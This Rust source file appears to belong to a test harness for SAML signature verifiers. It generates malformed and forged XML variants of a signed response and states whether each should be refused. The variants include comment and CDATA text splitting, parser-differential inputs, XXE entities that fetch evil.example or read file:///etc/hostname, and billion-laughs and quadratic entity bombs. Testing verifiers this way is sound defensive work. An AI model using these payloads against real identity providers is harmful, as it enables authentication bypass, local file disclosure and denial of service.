//! Classes 2, 3 and 16: what two parsers read differently, what splits text, and document types.

use super::AttackClass::{DocumentType, ParserDifferential, TextSplitting};
use super::attack::{Attacks, Message};
use super::edit::at_end;
use super::tree::{ASSERTION, At, DSIG};
use super::victim::{Victim, split};
use super::{ATTACKER, Expectation};

/// How many texts of one message are split: real responses have hundreds of alike values.
const MAX_TEXTS: usize = 48;

const CANONICAL: &str = "the canonical form is the same, so the text has to be read whole";
const UNSIGNED: &str = "nobody signed it, so nobody has to read it";

pub(super) fn attack(victim: &Victim, attacks: &mut Attacks) {
    split_texts(victim, attacks);
    differ(victim, attacks);
    declare(victim, attacks);
}

/// Class 3: each text of the message is cut in two.
fn split_texts(victim: &Victim, attacks: &mut Attacks) {
    let texts = victim
        .tree
        .elements()
        .filter(|element| element.children().next().is_none() && !element.inner().is_empty());
    for element in texts.take(MAX_TEXTS) {
        let text = element.inner_text();
        let of = format!("{} at {}", element.local_name(), element.index());
        let in_signature = ancestors(element).any(|around| around.is(DSIG, "Signature"));
        let in_key_info = ancestors(element).any(|around| around.is(DSIG, "KeyInfo"));
        let in_assertion = ancestors(element).any(|around| around.is(ASSERTION, "Assertion"));
        let is_signed = ancestors(element).any(|around| around.child(DSIG, "Signature").is_some());
        let with = |text: &str| victim.tree.with(element.inner(), text);
        for (name, by) in [
            ("an empty comment", "<!---->"),
            ("a comment", "<!-- evil -->"),
            ("an empty CDATA section", "<![CDATA[]]>"),
            ("two comments", "<!--a--><!--b-->"),
        ] {
            // What is in signatures is class 4.
            if !in_signature {
                for (place, split) in [
                    ("within", split(text, by)),
                    ("in front of", format!("{by}{text}")),
                    ("behind", format!("{text}{by}")),
                ] {
                    let name = format!("{name} {place} {of}");
                    attacks.harmless(TextSplitting, name, CANONICAL, with(&split));
                }
            }
        }
        // Another spelling of the same characters, where the text has none of its own.
        if !text.contains('&') && !in_signature {
            attacks.harmless(
                TextSplitting,
                format!("all of {of} in a CDATA section"),
                CANONICAL,
                with(&format!("<![CDATA[{text}]]>")),
            );
            let references: String = text
                .chars()
                .map(|c| format!("&#{};", u32::from(c)))
                .collect();
            attacks.harmless(
                TextSplitting,
                format!("all of {of} in character references"),
                CANONICAL,
                with(&references),
            );
        }
        for (name, by) in [
            ("an instruction", "<?x y?>"),
            ("an instruction that looks like an end", "<?x </y>?>"),
            ("an unknown entity", "&nothing;"),
            ("an element", "<x/>"),
            ("an element with text", "<x>evil</x>"),
            ("a text", "evil"),
        ] {
            let name = format!("{name} within {of}");
            let is_xml = !by.starts_with('&') && !by.starts_with("<?");
            if in_key_info || !is_signed && is_xml {
                attacks.harmless(TextSplitting, name, UNSIGNED, with(&split(text, by)));
            } else if (in_signature || !in_assertion) && is_xml {
                attacks.spoilt(TextSplitting, name, with(&split(text, by)));
            } else {
                attacks.refused(TextSplitting, name, with(&split(text, by)));
            }
        }
    }
}

fn ancestors(element: At<'_>) -> impl Iterator<Item = At<'_>> {
    std::iter::successors(Some(element), |element| element.parent())
}

/// Class 2: what is no XML, or XML that one parser takes for another.
fn differ(victim: &Victim, attacks: &mut Attacks) {
    let text = victim.text();
    let root = victim.tree.root();
    let (start, after_name, end) = root.map_or((0, 0, text.len()), |root| {
        (root.whole().start, root.after_name(), root.whole().end)
    });
    let at = |at: usize, what: &str| victim.tree.with(at..at, what);
    let evil = match &victim.assertion {
        Some(_) => victim.stripped(),
        None => victim.forged(&victim.root.bare).into_bytes(),
    };
    let evil = String::from_utf8_lossy(&evil).into_owned();

    let mut refused = |name: &str, xml: String| attacks.refused(ParserDifferential, name, xml);
    refused("a second root behind", format!("{text}{evil}"));
    refused("a second root in front", format!("{evil}{}", &at(0, "")));
    refused("text behind the root", at(end, ATTACKER));
    refused("text in front of the root", at(start, ATTACKER));
    refused("a CDATA section behind the root", at(end, "<![CDATA[x]]>"));
    refused("a reference behind the root", at(end, "&amp;"));
    refused(
        "an unclosed root",
        victim.tree.cut(0..end.saturating_sub(2)).to_owned(),
    );
    refused("a NUL behind the root", at(end, "\0"));
    refused("an end tag too many", at(end, "</x>"));
    refused(
        "an XML declaration behind the root",
        at(end, "<?xml version=\"1.0\"?>"),
    );
    refused(
        "an instruction in front of the root",
        at(start, "<?xml-stylesheet href=\"x\"?>"),
    );
    for encoding in ["UTF-16", "UTF-7", "EBCDIC-CP-US"] {
        refused(
            &format!("said to be in {encoding}"),
            format!(
                "<?xml version=\"1.0\" encoding=\"{encoding}\"?>{}",
                victim.tree.cut(start..end)
            ),
        );
    }
    for (name, attribute) in [
        ("an attribute twice", " Version=\"2.0\""),
        ("an unquoted attribute", " a=b"),
        ("an attribute without a value", " a"),
        ("an unknown prefix", " nobody:a=\"b\""),
        ("two colons", " a:b:c=\"d\""),
        ("a colon in front", " :a=\"b\""),
        ("less-than in an attribute", " a=\"<\""),
        ("a NUL by reference", " a=\"&#0;\""),
        ("a surrogate by reference", " a=\"&#xD800;\""),
        ("an attribute name that starts with a digit", " 1a=\"b\""),
        ("the ampersand alone", " a=\"&\""),
    ] {
        refused(name, at(after_name, attribute));
    }
    for (name, content) in [
        ("the end of a CDATA section in text", "]]>"),
        ("a control character", "\u{1}"),
        ("a control character by reference", "&#1;"),
        ("a half comment", "<!--"),
        ("two hyphens in a comment", "<!-- -- -->"),
        ("a half CDATA section", "<![CDATA["),
        ("an end tag with an attribute", "<x></x a=\"b\">"),
        ("white space in front of a name", "< x/>"),
        ("tags that cross", "<x><y></x></y>"),
    ] {
        if let Some(root) = root {
            refused(name, at(root.inner().end, content));
        }
    }
    let comment = format!("<!-- {} -->", evil.replace("--", ""));
    attacks.harmless(
        ParserDifferential,
        "the forged message in a comment in front",
        "a comment is no element",
        at(start, &comment),
    );
    attacks.harmless(
        ParserDifferential,
        "the forged message in a comment behind",
        "a comment is no element",
        at(end, &comment),
    );
    if let Some(root) = root {
        attacks.harmless(
            ParserDifferential,
            "the forged message in a CDATA section",
            "a CDATA section is text",
            at(root.inner().end, &format!("<![CDATA[{evil}]]>")),
        );
    }
    attacks.harmless(
        ParserDifferential,
        "line ends of another system",
        "they are normalized before anything else",
        text.replace('\n', "\r\n"),
    );
    // The forged message in another encoding, behind which the genuine one can not be seen.
    let utf16: Vec<u8> = evil.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mark = [0xFF, 0xFE];
    let sent = Message::Xml([&mark[..], &utf16].concat());
    attacks.send(ParserDifferential, "UTF-16", sent, Expectation::Refused);
    let overlong = [text.as_bytes(), &[0xC0, 0xBC]].concat();
    attacks.refused(ParserDifferential, "overlong UTF-8", overlong);
}

/// Class 16: document types.
fn declare(victim: &Victim, attacks: &mut Attacks) {
    let text = victim.text();
    let mut refused = |name: &str, doctype: &str, xml: &str| {
        attacks.refused(DocumentType, name, victim.behind_declaration(doctype, xml));
    };
    refused("an empty document type", "<!DOCTYPE r>", text);
    refused("an internal subset", "<!DOCTYPE r []>", text);
    refused(
        "an external subset",
        "<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\">",
        text,
    );
    refused(
        "a public subset",
        "<!DOCTYPE r PUBLIC \"-//x\" \"http://evil.example/x.dtd\">",
        text,
    );
    refused(
        "a parameter entity",
        "<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://evil.example/x\"> %x;]>",
        text,
    );
    refused(
        "attribute defaults",
        "<!DOCTYPE r [<!ATTLIST Assertion Evil CDATA \"x\">]>",
        text,
    );
    for (name, entity) in [
        ("a name from an entity", format!("\"{ATTACKER}\"")),
        (
            "a name from a file",
            "SYSTEM \"file:///etc/hostname\"".to_owned(),
        ),
        (
            "a name from a server",
            "SYSTEM \"http://evil.example/\"".to_owned(),
        ),
    ] {
        let doctype = format!("<!DOCTYPE r [<!ENTITY who {entity}>]>");
        refused(name, &doctype, &text.replace(&victim.prize, "&who;"));
    }
    let empty = "<!DOCTYPE r [<!ENTITY e \"\">]>";
    let cut = text.replace(&victim.prize, &split(&victim.prize, "&e;"));
    refused("a name split by an empty entity", empty, &cut);
    let own = format!("<!DOCTYPE r [<!ENTITY who \"{}\">]>", victim.prize);
    let same = text.replace(&victim.prize, "&who;");
    refused("the genuine name from an entity", &own, &same);
    if let Some(assertion) = &victim.assertion {
        let element = format!(
            "<!DOCTYPE r [<!ENTITY a '{}'>]>",
            assertion.whole.replace('\'', "&#39;")
        );
        refused(
            "an assertion from an entity",
            &element,
            &victim.response("&a;"),
        );
    }
    let mut bomb = String::from("<!DOCTYPE r [<!ENTITY e0 \"lol\">");
    for n in 1..30_u32 {
        let below = n.saturating_sub(1);
        bomb.push_str(&format!("<!ENTITY e{n} \"&e{below};&e{below};\">"));
    }
    bomb.push_str("]>");
    let used = at_end(text, &format!("<w:x xmlns:w=\"{ASSERTION}\">&e29;</w:x>"));
    refused("a billion laughs", &bomb, &used);
    let long = format!("<!DOCTYPE r [<!ENTITY e \"{}\">]>", "x".repeat(50_000));
    let used = at_end(
        text,
        &format!("<w:x xmlns:w=\"{ASSERTION}\">{}</w:x>", "&e;".repeat(5_000)),
    );
    refused("quadratic blow-up", &long, &used);
}
